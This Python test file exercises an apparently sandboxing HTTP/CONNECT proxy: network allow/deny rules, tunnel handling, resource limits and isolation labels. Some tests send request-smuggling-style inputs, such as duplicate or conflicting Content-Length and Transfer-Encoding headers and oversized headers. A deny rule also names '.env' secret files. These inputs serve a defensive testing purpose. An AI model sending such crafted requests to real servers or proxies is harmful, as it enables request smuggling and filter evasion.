        ({"deny_network": ("10.*",)}, "a.example", "10.0.0.1", True),
        ({"deny_network": ("93.184.216.34",), "allow_network": ("a.example",)}, "a.example", "93.184.216.34", True),
        ({"deny_network": ("10.*",)}, "a.example", "93.184.216.34", False),
        ({"deny_network": ("10.0.0.0/8",)}, "a.example", "10.200.0.1", True),
        ({"deny_network": ("fd00::/8",)}, "a.example", "fd12::1", True),
        ({"allow_network": ("a.example", "10.0.0.0/8")}, "a.example", "10.0.0.1", False),
        ({"deny_network": ("b.example",)}, "a.example", "0.0.0.0", True),
    ],
)
def test_a_name_that_is_allowed_opens_no_way_to_an_address_that_is_not(
    lists: dict[str, tuple[str, ...]], host: str, address: str, refused: bool
) -> None:
    judge = ConnectionRules(compile_policy(policy(**lists)), ())
    assert judge.check_name(f"{host}:443") is False
    if refused:
        with pytest.raises(Refused):
            judge.check_address(host, address, 443)
    else:
        judge.check_address(host, address, 443)


def test_a_rule_with_the_scheme_of_a_tunnel_allows_the_tunnel() -> None:
    judge = ConnectionRules(compile_policy(policy(allow_network=("https://a.example",))), ())
    judge.check_name("a.example:443")
    for target in ("b.example:443", "a.example:80/x", "a.example@b.example:443", "http://a.example/"):
        with pytest.raises(Refused):
            judge.check_name(target)


HEAD = b"%b HTTP/1.1\r\nHost: a.example\r\n"


@pytest.mark.parametrize(
    ("request_", "status"),
    [
        (b"nonsense\r\n\r\n", b"400"),
        (b"GET http://a.example/ HTTP/1.1\r\n\r\n", b"400"),
        (HEAD % b"GET https://a.example/" + b"\r\n", b"400"),
        (HEAD % b"CONNECT a.example" + b"\r\n", b"400"),
        (HEAD % b"POST http://a.example/" + b"Transfer-Encoding: gzip, chunked\r\n\r\n", b"501"),
        (HEAD % b"POST http://a.example/" + b"Content-Length: 0\r\nContent-Length: 5\r\n\r\n", b"400"),
        (HEAD % b"POST http://a.example/" + b"Content-Length: -1\r\n\r\n", b"400"),
        (HEAD % b"POST http://a.example/" + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\n", b"400"),
        (HEAD % b"GET http://b.example/" + b"\r\n", b"403"),
        (HEAD % b"HEAD http://b.example/" + b"\r\n", b"403"),
        (b"CONNECT b.example:443 HTTP/1.0\r\n\r\n", b"403"),
        (HEAD % b"GET http://a.example/" + b"X: " + b"x" * 200_000 + b"\r\n\r\n", b"431"),
    ],
)
async def test_the_door_refuses_what_it_cannot_read_in_one_way_only(request_: bytes, status: bytes) -> None:
    door = socket.create_server(("127.0.0.1", 0))
    door.setblocking(False)
    connections = Connections()
    judge = ConnectionRules(compile_policy(policy(allow_network=("a.example",))), ())
    with door, anyio.fail_after(ALLOWED_S):
        async with (
            beside(functools.partial(proxy.serve, door, judge, connections)),
            await anyio.connect_tcp("127.0.0.1", door.getsockname()[1]) as line,
        ):
            try:
                await line.send(request_)
                answer = await line.receive()
            except anyio.BrokenResourceError:
                answer = b"HTTP/1.1 431"  # It had answered before all was sent.
    assert answer.startswith(b"HTTP/1.1 " + status)
    assert connections.denied == 1


@asynccontextmanager
async def opened_door(*allowed: str) -> AsyncIterator[tuple[socket.socket, Connections]]:
    """A connection to a proxy that allows these targets, and the proxy's record."""
    seen, rules = Connections(), ConnectionRules(compile_policy(policy(allow_network=allowed)), ())
    with socket.create_server(("127.0.0.1", 0)) as door, anyio.fail_after(ALLOWED_S):
        door.setblocking(False)
        async with beside(functools.partial(proxy.serve, door, rules, seen)):
            with socket.create_connection(door.getsockname()) as line:
                line.setblocking(False)
                yield line, seen


async def heard(line: socket.socket, until: bytes = b"") -> bytes:
    data = b""
    while not (until and until in data) and (more := await receive(line, 4096)):
        data += more
    return data


@pytest.mark.parametrize("ends", ["client", "server"])
async def test_a_tunnel_carries_one_direction_after_the_end_of_the_other(ends: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as far:
        far.setblocking(False)
        target = f"127.0.0.1:{far.getsockname()[1]}"
        async with opened_door(target) as (line, _):
            # The first bytes of the tunnel come with its head.
            await send(line, HEAD % (b"CONNECT " + target.encode()) + b"\r\nfirst")
            await anyio.wait_readable(far)
            with far.accept()[0] as there:
                there.setblocking(False)
                assert b" 200 " in await heard(line, b"\r\n\r\n")
                assert await heard(there, b"first") == b"first"
                one, other = (line, there) if ends == "client" else (there, line)
                await send(one, b"the last words of one")
                one.shutdown(socket.SHUT_WR)
                assert await heard(other) == b"the last words of one"
                await send(other, b"an answer after them")
                other.shutdown(socket.SHUT_WR)
                assert await heard(one) == b"an answer after them"


async def test_a_tunnel_ends_when_nothing_moves(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(proxy, "IDLE_S_MAX", 0.2)
    with socket.create_server(("127.0.0.1", 0)) as far:
        target = f"127.0.0.1:{far.getsockname()[1]}"
        async with opened_door(target) as (line, _):
            await send(line, HEAD % (b"CONNECT " + target.encode()) + b"\r\n")
            assert b" 200 " in await heard(line)  # Up to its end.


@pytest.mark.parametrize(
    ("framing", "sent", "body"),
    [
        (b"Content-Length: 5", b"Content-Length: 5", b"hello"),
        (b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked", b"5\r\nhello\r\n0\r\n\r\n"),
        # Of two lengths only the one is sent on by which the proxy has read the body.
        (
            b"Content-Length: 3\r\nTransfer-Encoding: chunked",
            b"Transfer-Encoding: chunked",
            b"5\r\nhello\r\n0\r\n\r\n",
        ),
    ],
    ids=["length", "chunks", "both"],
)
async def test_a_request_of_any_framing_goes_on_as_it_was_meant(framing: bytes, sent: bytes, body: bytes) -> None:
    with socket.create_server(("127.0.0.1", 0)) as far:
        far.setblocking(False)
        target = f"127.0.0.1:{far.getsockname()[1]}"
        async with opened_door(target) as (line, seen):
            head = HEAD % (b"POST http://u:p@" + target.encode() + b"/way?a=b")
            await send(line, head + b"Proxy-Authorization: x\r\nX-Kept: yes\r\n" + framing + b"\r\n\r\n" + body)
            await anyio.wait_readable(far)
            with far.accept()[0] as there:
                there.setblocking(False)
                came = await heard(there, body)
                await send(there, b"HTTP/1.1 200 OK\r\n\r\nwelcome")
            assert (await heard(line)).endswith(b"\r\n\r\nwelcome")
        assert came.startswith(b"POST /way?a=b HTTP/1.1\r\nHost: " + target.encode() + b"\r\nConnection: close\r\n")
        assert came.endswith(b"X-Kept: yes\r\n" + sent + b"\r\n\r\n" + body)
        assert b"Proxy-" not in came
        assert (seen.allowed, seen.denied) == (1, 0)


async def test_a_client_that_breaks_off_its_body_ends_the_connection() -> None:
    with socket.create_server(("127.0.0.1", 0)) as far:
        far.setblocking(False)
        target = f"127.0.0.1:{far.getsockname()[1]}"
        async with opened_door(target) as (line, _):
            await send(line, HEAD % (b"POST http://" + target.encode() + b"/") + b"Content-Length: 5\r\n\r\nhel")
            await anyio.wait_readable(far)
            with far.accept()[0] as there:
                there.setblocking(False)
                await heard(there, b"hel")
                line.shutdown(socket.SHUT_WR)
                assert await heard(there) == b""


def test_a_resolver_that_hangs_keeps_no_end_waiting(anyio_backend: str, monkeypatch: pytest.MonkeyPatch) -> None:
    asked, let_go, real = threading.Event(), threading.Event(), socket.getaddrinfo

    def resolve(host: Any, *rest: Any, **named: Any) -> Any:
        if host != "slow.example":
            return real(host, *rest, **named)
        asked.set()
        let_go.wait(60)
        raise socket.gaierror(socket.EAI_NONAME, "none")

    async def ask_and_leave() -> None:
        with socket.create_server(("127.0.0.1", 0)) as door:
            door.setblocking(False)
            rules = ConnectionRules(compile_policy(policy(deny_network=("evil.example",))), ())
            async with (
                beside(functools.partial(proxy.serve, door, rules, Connections())),
                await anyio.connect_tcp("127.0.0.1", door.getsockname()[1]) as line,
            ):
                await line.send(HEAD % b"CONNECT slow.example:80" + b"\r\n")
                with anyio.fail_after(ALLOWED_S):
                    while not asked.is_set():
                        await anyio.sleep(0.01)

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    began = time.monotonic()
    try:
        anyio.run(ask_and_leave, backend=anyio_backend)
        assert time.monotonic() - began < 20
    finally:
        let_go.set()


async def test_a_host_dumps_no_core_and_has_so_many_processes(backplane_home: Path, root: Path, tmp_path: Path) -> None:
    asked = f"[__import__('resource').getrlimit(n) for n in {[resource.RLIMIT_CORE, resource.RLIMIT_NPROC]}]"
    said, held = await ask(control(backplane_home), cell(tmp_path / "bin", asked), root)
    core, processes = said
    assert core == [0, 0]
    limits = held["kinds"]["limits"]
    counted = os.geteuid() != 0 and any(layer["name"] == "bubblewrap" for layer in held["layers"] if "why" not in layer)
    assert limits["state"] == ("partial" if counted else "none")
    assert ("4096" in limits.get("covers", "")) == counted == (processes == [4096, 4096])


@pytest.mark.parametrize("hidden", [(), ("bubblewrap",)])
async def test_a_state_folder_in_the_workspace_is_covered_or_named_as_open(
    hidden: tuple[Name, ...], found: Probe, root: Path, tmp_path: Path
) -> None:
    home = root / ".state"
    there = f"write({str(home / 'planted')!r})"
    _, held = await ask(control(home, without(found, *hidden)), cell(tmp_path / "bin", there), root)
    assert (home / "planted").exists() == bool(hidden)
    assert ("the state folder" in held["kinds"]["files"].get("gap", "")) == bool(hidden)


async def test_rules_on_reading_name_what_git_keeps(backplane_home: Path, root: Path, tmp_path: Path) -> None:
    closed = policy(deny_read=("**/.env",))
    _, held = await ask(control(backplane_home), cell(tmp_path / "bin", "1"), root, policy=closed)
    assert mounts.HISTORY not in held["kinds"]["files"]["gap"]
    (root / ".git").mkdir()
    _, held = await ask(control(backplane_home), cell(tmp_path / "bin", "1"), root, policy=closed)
    assert mounts.HISTORY in held["kinds"]["files"]["gap"]


async def test_a_socket_elsewhere_can_be_reached_and_the_label_says_so(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    _, held = await ask(control(backplane_home), cell(tmp_path / "bin", "1"), root)
    sockets = held["kinds"]["sockets"]
    assert sockets["state"] == "partial"
    assert "those with a path" in sockets["gap"]


def test_a_label_says_partial_where_a_gap_is_known(found: Probe) -> None:
    held = labels.Held(
        isolation="required",
        found=found,
        profile=PROFILES["strict"],
        writable=("/w",),
        missing=(),
        masks=mounts.Masks(read_gap="x"),
        private=True,
    )
    kinds: Any = labels.label(held)["kinds"]
    assert kinds["files"]["state"] == "partial"
    bare = msgspec.structs.replace(held, found=without(found, *LAYERS))
    kinds = labels.label(bare)["kinds"]
    assert {name: kind["state"] for name, kind in kinds.items()} == {
        "files": "none",
        "credentials": "none",
        "sockets": "none",
        "network": "advisory",
        "processes": "partial",
        "syscalls": "none",
        "limits": "none",
        "environment": "partial",
    }
    assert bare.gaps() == {}


def test_a_probe_says_why_a_layer_is_missing(tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: no namespaces for you' >&2\nexit 1\n")
    fake.chmod(0o755)
    found = probe({"PATH": str(tmp_path)})
    assert (found.bubblewrap.usable, found.bubblewrap.why) == (False, "bwrap: no namespaces for you")
    assert found.command == ()
    assert not found.network.usable
